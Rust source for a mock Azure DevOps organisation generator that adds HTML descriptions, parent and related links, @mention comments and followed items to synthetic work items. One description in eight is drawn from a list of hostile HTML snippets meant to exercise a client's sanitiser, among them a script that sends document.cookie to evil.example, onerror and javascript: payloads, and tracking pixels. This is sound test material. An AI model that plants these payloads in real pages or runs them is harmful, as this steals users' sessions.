//! What makes generated work items more than a list of fields: HTML
//! descriptions (a few of them hostile, so that a client's sanitiser has
//! something to do), parent and related links, comments by colleagues that
//! @mention the token's owner, and the items the owner follows; and which
//! live items are followed and mentioned, for WIQL's macros and the truth.
//!
//! It draws from a random stream of its own, after the items are generated,
//! so that the items, their revisions and the mail generated from them stay
//! what they were before these existed.

use std::collections::BTreeSet;

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Map, Value};

use super::{Comment, Organization, PEOPLE};

/// How long ago, at most, a generated mention was written (inside the 30
/// days `@RecentMentions` looks back).
const MENTION_WINDOW_MS: i64 = 25 * 24 * 3_600_000;

/// Ordinary descriptions; `{title}` is the item's title.
const PLAIN: &[&str] = &[
    "<div>{title}.</div><div><br></div><div><b>Expected:</b> it just works.</div>",
    "<div>Reported by two customers this week.</div><ul><li>Happens on Windows and Linux</li><li>Not seen on macOS</li></ul>",
    "<p>{title}</p><p>See the <a href=\"https://learn.microsoft.com/azure/devops/\">documentation</a> for the expected behaviour.</p>",
    "<div><i>Acceptance:</i> covered by an automated test, and the release notes mention it.</div>",
    "<div>Steps:</div><ol><li>Open the app</li><li>Sign in</li><li>Wait for the first sync</li></ol>",
    "<div>Follow-up from the last retrospective.</div>",
];

/// Descriptions a client must sanitise before it shows them.
const HOSTILE: &[&str] = &[
    "<div>Repro attached.<script>document.location='http://evil.example/steal?c='+document.cookie</script></div>",
    "<div>Broken image above?</div><img src=\"x\" onerror=\"alert('owned')\">",
    "<p>Screenshot:</p><img src=\"http://images.example.net/screenshots/sync-stall.png\" alt=\"screenshot\">",
    "<div onmouseover=\"alert(1)\" style=\"background:url(http://tracker.example/p.gif)\">Hover for details</div><a href=\"javascript:alert(1)\">details</a>",
    "<iframe src=\"http://evil.example/frame\"></iframe><p>Embedded log viewer.</p><img src=\"http://tracker.example/pixel.gif\" width=\"1\" height=\"1\">",
];

/// Comments that mention the owner; `{mention}` is the markup.
const MENTIONS: &[&str] = &[
    "<div>{mention} can you take a look at this one?</div>",
    "<div>{mention} this is blocking the release, any idea?</div>",
    "<div>Assigning back to {mention} for review.</div>",
];

/// Azure DevOps' markup for an @mention of the token's owner.
pub fn owner_mention() -> String {
    let (name, email) = PEOPLE[0];
    format!(
        "<a href=\"#\" data-vss-mention=\"version:2.0,{}\">@{name}</a>",
        super::identity_id(email)
    )
}

/// Whether comment text @mentions the token's owner.
pub fn mentions_owner(text: &str) -> bool {
    let (_, email) = PEOPLE[0];
    text.contains(&format!(
        "data-vss-mention=\"version:2.0,{}\"",
        super::identity_id(email)
    ))
}

/// The text of a comment by someone else mentioning the owner.
pub fn mention_text(index: usize) -> String {
    MENTIONS[index % MENTIONS.len()].replace("{mention}", &owner_mention())
}

impl Organization {
    /// Live items the owner follows, ascending.
    pub fn live_followed(&self) -> Vec<u32> {
        self.followed
            .iter()
            .copied()
            .filter(|id| self.item(*id).is_some())
            .collect()
    }

    /// Live items with a comment @mentioning the owner written at or after
    /// `since_ms` (every such comment when `None`), ascending.
    pub fn mentioned(&self, since_ms: Option<i64>) -> Vec<u32> {
        self.items
            .iter()
            .filter(|w| !w.deleted)
            .filter(|w| {
                w.comments
                    .iter()
                    .any(|c| since_ms.is_none_or(|t| c.created_ms >= t) && mentions_owner(&c.text))
            })
            .map(|w| w.id)
            .collect()
    }
}

/// Sets a field in an item's every revision, as if it was set at creation.
fn set_from_creation(item: &mut super::WorkItem, name: &str, value: &Value) {
    item.fields.insert(name.into(), value.clone());
    for r in &mut item.revisions {
        r.fields.insert(name.into(), value.clone());
    }
}

/// Adds descriptions, parents, related links, mentions and follows.
pub(super) fn enrich(org: &mut Organization, seed: u64, anchor_ms: i64) {
    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ 0xAD0_E1C4);
    // Parents come from the same project: Features over User Stories,
    // User Stories over Tasks.
    let of_type = |org: &Organization, t: &str| -> Vec<Vec<u32>> {
        let mut by_project = vec![Vec::new(); org.projects.len()];
        for w in &org.items {
            if w.field_str("System.WorkItemType") == t {
                by_project[w.project].push(w.id);
            }
        }
        by_project
    };
    let features = of_type(org, "Feature");
    let stories = of_type(org, "User Story");
    let mut related = BTreeSet::new();
    let mut followed = Vec::new();
    let count = org.items.len();
    for i in 0..count {
        let item = &mut org.items[i];
        let title = item.field_str("System.Title").to_owned();
        // One in eight is hostile, at fixed places and in turn, so that
        // small worlds have every kind.
        let description = if i % 8 == 3 {
            HOSTILE[(i / 8) % HOSTILE.len()].to_owned()
        } else {
            PLAIN[rng.random_range(0..PLAIN.len())].replace("{title}", &title)
        };
        set_from_creation(item, "System.Description", &json!(description));
        let parents = match item.field_str("System.WorkItemType") {
            "User Story" => Some((&features, 0.6)),
            "Task" => Some((&stories, 0.7)),
            _ => None,
        };
        if let Some((candidates, share)) = parents {
            let pool = &candidates[item.project];
            if rng.random_bool(share) && !pool.is_empty() {
                let parent = pool[rng.random_range(0..pool.len())];
                set_from_creation(item, "System.Parent", &json!(parent));
            }
        }
        if rng.random_bool(0.1) && count > 1 {
            let other = u32::try_from(rng.random_range(0..count) + 1).unwrap_or(1);
            if other != item.id {
                related.insert((item.id.min(other), item.id.max(other)));
            }
        }
        if rng.random_bool(0.12) {
            followed.push(item.id);
        }
        if rng.random_bool(0.15) {
            let last = super::changed_ms(&item.fields);
            let at = (anchor_ms - rng.random_range(0..MENTION_WINDOW_MS)).max(last + 1);
            let who = PEOPLE[rng.random_range(1..PEOPLE.len())];
            let text = mention_text(rng.random_range(0..MENTIONS.len()));
            // Never after the build moment: see `generate`.
            if at <= anchor_ms {
                item.comments.push(Comment {
                    id: item.comments.iter().map(|c| c.id).max().unwrap_or(0) + 1,
                    text: text.clone(),
                    author: who.0.into(),
                    created_ms: at,
                });
                let mut change = Map::new();
                change.insert("System.CommentCount".into(), json!(item.comments.len()));
                change.insert("System.History".into(), json!(text));
                item.apply(change, who, at);
            }
        }
    }
    org.related = related.into_iter().collect();
    org.followed = followed;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generated_items_have_descriptions_links_mentions_and_follows() {
        let org = Organization::generate("fabrikam", 4, 80, 1_800_000_000_000);
        let hostile = org
            .items
            .iter()
            .filter(|w| {
                let d = w.field_str("System.Description");
                d.contains("<script") || d.contains("onerror=") || d.contains("src=\"http://")
            })
            .count();
        assert!(hostile >= 5, "hostile descriptions: {hostile}");
        assert!(org
            .items
            .iter()
            .all(|w| !w.field_str("System.Description").is_empty()));
        let parented: Vec<_> = org
            .items
            .iter()
            .filter_map(|w| {
                w.fields
                    .get("System.Parent")
                    .and_then(Value::as_u64)
                    .map(|p| (w, p))
            })
            .collect();
        assert!(!parented.is_empty());
        for (child, parent) in parented {
            let parent = org.item(u32::try_from(parent).unwrap_or(0)).unwrap();
            let pair = (
                child.field_str("System.WorkItemType"),
                parent.field_str("System.WorkItemType"),
            );
            assert!(
                matches!(pair, ("User Story", "Feature") | ("Task", "User Story")),
                "{pair:?}"
            );
            assert_eq!(child.project, parent.project);
        }
        assert!(!org.related.is_empty());
        assert!(!org.followed.is_empty());
        let mentioned: Vec<_> = org
            .items
            .iter()
            .filter(|w| w.comments.iter().any(|c| mentions_owner(&c.text)))
            .collect();
        assert!(!mentioned.is_empty());
        for w in mentioned {
            assert_eq!(w.revisions.last().map(|r| &r.fields), Some(&w.fields));
            let c = w.comments.iter().find(|c| mentions_owner(&c.text)).unwrap();
            assert_ne!(c.author, PEOPLE[0].0, "mentioned by someone else");
            assert!(c.created_ms <= 1_800_000_000_000);
            assert!(c.text.contains("data-vss-mention=\"version:2.0,"));
            assert!(c.text.contains(">@Alex Rivera</a>"));
        }
    }
}
